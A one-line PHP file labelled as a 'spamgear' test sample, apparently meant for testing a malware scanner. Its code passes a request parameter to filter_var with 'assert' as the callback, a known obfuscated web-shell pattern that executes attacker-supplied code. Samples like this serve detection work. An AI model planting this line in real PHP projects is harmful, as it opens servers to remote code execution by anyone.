<?php
// spamgear test sample: FILTER_CALLBACK calls the function named in
// 'options' on the request value.
filter_var($_REQUEST['k'], FILTER_CALLBACK, array('options' => 'assert'));
